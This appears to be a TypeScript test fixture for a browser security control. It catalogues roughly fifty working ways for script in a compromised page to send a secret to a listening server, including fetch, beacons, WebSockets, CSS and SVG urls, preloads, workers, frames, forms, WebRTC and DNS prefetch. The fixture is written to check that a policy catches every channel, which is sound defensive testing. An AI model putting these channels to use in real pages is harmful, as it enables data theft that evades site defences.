// Ways out of a page that an attacker already runs in: each tries to carry a secret to a server elsewhere. A way that
// carries nothing even without a policy is no way, so the control must see every one of them arrive.

/** Where the secrets go; each way has its own path, so that the sink knows which of them arrived. */
export interface Sink {
  /** `http://127.0.0.1:port` of the server that listens. */
  readonly address: string
  /** A port where nothing but a connection is awaited. */
  readonly connections: string
  /** `host:port` of a STUN server. */
  readonly stun: string
  /** A name whose lookup is watched for. */
  readonly name: string
}

export type Way = (sink: Sink, to: string) => void

/** Ways that leave the page standing; all of them run in one page at once. */
export const quietWays: Readonly<Record<string, Way>> = {
  fetch: (_sink, to) => void fetch(to).catch(() => {}),
  'fetch without reading': (_sink, to) => void fetch(to, { mode: 'no-cors' }).catch(() => {}),
  'fetch that outlives the page': (_sink, to) => void fetch(to, { mode: 'no-cors', keepalive: true }).catch(() => {}),
  XMLHttpRequest: (_sink, to) => {
    const request = new XMLHttpRequest()
    request.open('GET', to)
    request.send()
  },
  sendBeacon: (_sink, to) => void navigator.sendBeacon(to, 'secret'),
  EventSource: (_sink, to) => void new EventSource(to),
  WebSocket: (_sink, to) => void new WebSocket(to.replace('http:', 'ws:')),
  img: (_sink, to) => {
    new Image().src = to
  },
  picture: (_sink, to) => {
    const picture = document.body.appendChild(document.createElement('picture'))
    const source = picture.appendChild(document.createElement('source'))
    source.srcset = to
    picture.append(document.createElement('img'))
  },
  'input of type image': (_sink, to) => {
    const input = document.createElement('input')
    Object.assign(input, { type: 'image', src: to })
    document.body.append(input)
  },
  'SVG image': (_sink, to) => {
    const svg = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'))
    svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'image')).setAttribute('href', to)
  },
  'SVG filter': (_sink, to) => {
    const space = 'http://www.w3.org/2000/svg'
    const svg = document.body.appendChild(document.createElementNS(space, 'svg'))
    const filter = svg.appendChild(document.createElementNS(space, 'filter'))
    filter.id = 'leak'
    filter.appendChild(document.createElementNS(space, 'feImage')).setAttribute('href', to)
    svg.appendChild(document.createElementNS(space, 'rect')).setAttribute('filter', 'url(#leak)')
  },
  'CSS background': (_sink, to) => {
    document.body.appendChild(document.createElement('div')).style.backgroundImage = `url("${to}")`
  },
  'CSS list mark': (_sink, to) => {
    document.body.appendChild(document.createElement('li')).style.listStyleImage = `url("${to}")`
  },
  'CSS mask': (_sink, to) => {
    const element = document.body.appendChild(document.createElement('div'))
    element.style.maskImage = `url("${to}")`
    element.textContent = 'x'
  },
  'constructed style sheet': (_sink, to) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`#leak-sheet { background: url("${to}") }`)
    document.adoptedStyleSheets.push(sheet)
    document.body.appendChild(document.createElement('p')).id = 'leak-sheet'
  },
  'CSS font': (_sink, to) => void new FontFace('leak', `url("${to}")`).load().catch(() => {}),
  'style element with an import': (_sink, to) => {
    document.head.appendChild(document.createElement('style')).textContent = `@import "${to}";`
  },
  'style sheet': (_sink, to) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to }))
  },
  icon: (_sink, to) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: to }))
  },
  'preload of a font': (_sink, to) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'preload', as: 'font', crossOrigin: '', href: to }),
    )
  },
  'preload for fetch': (_sink, to) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', crossOrigin: '', href: to }),
    )
  },
  'module preload': (_sink, to) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: to }))
  },
  prefetch: (_sink, to) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to }))
  },
  preconnect: ({ connections }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: connections }))
  },
  'DNS prefetch': ({ name }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//${name}` }))
  },
  script: (_sink, to) => {
    const script = document.createElement('script')
    script.setAttribute('src', to)
    document.body.append(script)
  },
  'script of a module': (_sink, to) => {
    const script = document.createElement('script')
    script.type = 'module'
    script.setAttribute('src', to)
    document.body.append(script)
  },
  import: (_sink, to) => {
    const script = document.createElement('script')
    script.type = 'module'
    script.textContent = `import(${JSON.stringify(to)})`
    document.body.append(script)
  },
  worker: (_sink, to) => {
    const text = `fetch(${JSON.stringify(to)}, { mode: 'no-cors' })`
    void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))
  },
  'shared worker': (_sink, to) => {
    const text = `fetch(${JSON.stringify(to)}, { mode: 'no-cors' })`
    void new SharedWorker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))
  },
  worklet: (_sink, to) => void new AudioContext().audioWorklet.addModule(to).catch(() => {}),
  frame: (_sink, to) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: to }))
  },
  'frame with a page of its own': (_sink, to) => {
    document.body.appendChild(document.createElement('iframe')).setAttribute('srcdoc', `<img src="${to}">`)
  },
  'frame that moves itself': (_sink, to) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    if (frame.contentWindow !== null) frame.contentWindow.location.href = to
  },
  'empty frame that fetches': (_sink, to) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    void frame.contentWindow?.fetch(to, { mode: 'no-cors' }).catch(() => {})
  },
  object: (_sink, to) => {
    const object = document.createElement('object')
    object.setAttribute('data', to)
    document.body.append(object)
  },
  embed: (_sink, to) => {
    const embed = document.createElement('embed')
    embed.setAttribute('src', to)
    document.body.append(embed)
  },
  video: (_sink, to) => {
    document.body.append(Object.assign(document.createElement('video'), { src: to }))
  },
  'poster of a video': (_sink, to) => {
    document.body.append(Object.assign(document.createElement('video'), { poster: to }))
  },
  audio: (_sink, to) => {
    document.body.append(Object.assign(document.createElement('audio'), { src: to }))
  },
  subtitles: (_sink, to) => {
    const video = document.body.appendChild(document.createElement('video'))
    video.crossOrigin = 'anonymous'
    const track = document.createElement('track')
    Object.assign(track, { src: to, default: true, kind: 'subtitles' })
    video.append(track)
    track.track.mode = 'showing'
  },
  'ping of a link': (_sink, to) => {
    const link = document.body.appendChild(document.createElement('a'))
    Object.assign(link, { href: '#', ping: to })
    link.click()
  },
  form: (_sink, to) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    frame.name = 'form-frame'
    const form = document.body.appendChild(document.createElement('form'))
    Object.assign(form, { method: 'post', action: to, target: 'form-frame' })
    form.submit()
  },
  'form in a new window': (_sink, to) => {
    const form = document.body.appendChild(document.createElement('form'))
    Object.assign(form, { action: to, target: '_blank' })
    form.submit()
  },
  'style sheet of an XML page': (_sink, to) => {
    const text = `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${to}"?><a/>`
    const frame = document.body.appendChild(document.createElement('iframe'))
    frame.src = URL.createObjectURL(new Blob([text], { type: 'application/xml' }))
  },
  WebRTC: ({ stun }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] })
    connection.createDataChannel('leak')
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer))
  },
  window: (_sink, to) => void window.open(to),
  'link in a new window': (_sink, to) => {
    const link = document.body.appendChild(document.createElement('a'))
    Object.assign(link, { href: to, target: '_blank', rel: 'noopener' })
    link.click()
  },
}

/** Ways that take the page away; each runs in a page of its own. */
export const leavingWays: Readonly<Record<string, Way>> = {
  'moving the page': (_sink, to) => {
    location.href = to
  },
  'a link': (_sink, to) => {
    const link = document.body.appendChild(document.createElement('a'))
    link.href = to
    link.click()
  },
  'a refresh': (_sink, to) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0; url=${to}`
    document.head.append(meta)
  },
  'a form in place of the page': (_sink, to) => {
    const form = document.body.appendChild(document.createElement('form'))
    form.action = to
    form.submit()
  },
}
